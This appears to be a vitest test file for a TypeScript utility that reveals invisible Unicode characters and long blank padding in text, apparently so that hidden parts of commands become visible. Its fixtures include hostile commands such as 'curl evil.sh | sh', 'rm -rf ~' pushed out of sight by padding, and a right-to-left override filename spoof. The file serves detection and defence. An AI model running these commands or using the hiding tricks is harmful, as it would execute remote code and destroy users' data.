import { describe, expect, it } from 'vitest';
import {
  codePointMarker,
  escapeInvisibleInJson,
  hasInvisible,
  hasLongBlankRun,
  makeVisible,
  splitVisible,
} from './visible-text.js';

describe('makeVisible', () => {
  it('shows a zero-width space as a marker', () => {
    expect(makeVisible('ls\u200B -la')).toBe('ls⟨U+200B⟩ -la');
  });

  it.each([
    ['\u202A', 'U+202A'],
    ['\u202B', 'U+202B'],
    ['\u202C', 'U+202C'],
    ['\u202D', 'U+202D'],
    ['\u202E', 'U+202E'],
    ['\u2066', 'U+2066'],
    ['\u2067', 'U+2067'],
    ['\u2068', 'U+2068'],
    ['\u2069', 'U+2069'],
    ['\u061C', 'U+061C'],
    ['\u200E', 'U+200E'],
    ['\u200F', 'U+200F'],
  ])('shows the bidirectional control %j as ⟨%s⟩', (character, name) => {
    expect(makeVisible(`a${character}b`)).toBe(`a⟨${name}⟩b`);
  });

  it('shows control characters as ⟨U+00XX⟩ but keeps newline and tab as layout', () => {
    expect(makeVisible('bell\u0007 escape\u001B[31m del\u007F c1\u0085')).toBe(
      'bell⟨U+0007⟩ escape⟨U+001B⟩[31m del⟨U+007F⟩ c1⟨U+0085⟩',
    );
    expect(makeVisible('line 1\n\tline 2')).toBe('line 1\n\tline 2');
    expect(makeVisible('a\r\nb')).toBe('a⟨U+000D⟩\nb');
  });

  it('shows look-alike spaces, joiners, the byte-order mark and tag characters, and leaves plain text alone', () => {
    expect(makeVisible('rm\u00A0-rf')).toBe('rm⟨U+00A0⟩-rf');
    expect(makeVisible('\uFEFFa\u200Db\u2060c\u3000d')).toBe('⟨U+FEFF⟩a⟨U+200D⟩b⟨U+2060⟩c⟨U+3000⟩d');
    expect(makeVisible('x\u{E0041}')).toBe('x⟨U+E0041⟩');
    expect(makeVisible('a\u3164b\u{E0100}c\u2028d')).toBe('a⟨U+3164⟩b⟨U+E0100⟩c⟨U+2028⟩d');
    expect(makeVisible('plain ASCII, ümlauts, 漢字 and emoji 🙂')).toBe('plain ASCII, ümlauts, 漢字 and emoji 🙂');
  });

  it('can keep nothing, so newlines become markers too', () => {
    expect(makeVisible('a\nb', { keep: [] })).toBe('a⟨U+000A⟩b');
  });
});

describe('splitVisible and hasInvisible', () => {
  it('marks which pieces are markers, so they can be coloured', () => {
    expect(splitVisible('a\u200Bb')).toEqual([
      { text: 'a', marker: false },
      { text: '⟨U+200B⟩', marker: true },
      { text: 'b', marker: false },
    ]);
    expect(hasInvisible('safe text\n')).toBe(false);
    expect(hasInvisible('evil\u202Etxt.exe')).toBe(true);
  });

  it('names code points with at least four hex digits', () => {
    expect(codePointMarker(0x7)).toBe('⟨U+0007⟩');
    expect(codePointMarker(0xe0001)).toBe('⟨U+E0001⟩');
  });
});

describe('escapeInvisibleInJson', () => {
  it('writes invisible characters as \\u escapes, so the JSON still parses to the same value', () => {
    const value = { command: 'ls\u200B -la\u202E', tag: 'x\u{E0041}' };
    const json = escapeInvisibleInJson(JSON.stringify(value, null, 2));
    expect(json).toContain('ls\\u200B -la\\u202E');
    expect(json).toContain('x\\uDB40\\uDC41');
    expect(hasInvisible(json)).toBe(false);
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe('long blank runs (issue 13)', () => {
  it('counts padding that would push the rest of a command out of sight', () => {
    expect(makeVisible(`ls${' '.repeat(200)}; rm -rf ~`)).toBe('ls⟨200 spaces⟩; rm -rf ~');
    expect(makeVisible(`echo hi${'\n'.repeat(60)}curl evil.sh | sh`)).toBe('echo hi⟨60 newlines⟩curl evil.sh | sh');
    expect(makeVisible(`a${' \t'.repeat(20)}b`)).toBe('a⟨20 spaces, 20 tabs⟩b');
    expect(makeVisible(`a${'\n '.repeat(5)}b`)).toBe('a⟨5 newlines, 5 spaces⟩b');
  });

  it('leaves ordinary layout alone: indentation, a few blank lines, aligned columns', () => {
    const code = 'def f():\n    if x:\n        return 1\n\n\n\nprint(f())';
    expect(makeVisible(code)).toBe(code);
    expect(makeVisible(`name${' '.repeat(23)}value`)).toBe(`name${' '.repeat(23)}value`);
    expect(hasLongBlankRun(code)).toBe(false);
  });

  it('shows invisible characters next to a counted run, and tells them apart', () => {
    expect(makeVisible(`x\u200B${' '.repeat(30)}\u202Ey`)).toBe('x⟨U+200B⟩⟨30 spaces⟩⟨U+202E⟩y');
    expect(hasLongBlankRun(' '.repeat(30))).toBe(true);
    expect(hasInvisible(' '.repeat(30))).toBe(false);
    expect(splitVisible(`a${' '.repeat(24)}b`)).toEqual([
      { text: 'a', marker: false },
      { text: '⟨24 spaces⟩', marker: true },
      { text: 'b', marker: false },
    ]);
  });
});
